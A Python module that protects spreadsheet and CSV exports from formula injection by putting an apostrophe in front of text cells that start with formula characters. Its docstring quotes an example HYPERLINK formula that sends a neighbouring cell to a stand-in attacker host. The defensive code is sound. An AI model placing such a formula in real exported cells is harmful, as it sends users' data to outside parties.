"""Cells of the spreadsheets and CSV files we write, made safe to open.

A text that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is read by Excel, WPS and
LibreOffice as a formula: a title like ``=HYPERLINK("http://evil.example/?x="&B4,"…")`` would become a live
link that sends the neighbouring cell away. Every export writes its text cells through ``safe_cell``, which
puts an apostrophe in front of such a text (OWASP's advice for CSV injection), so it is shown as typed."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` unchanged unless it is a text that a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
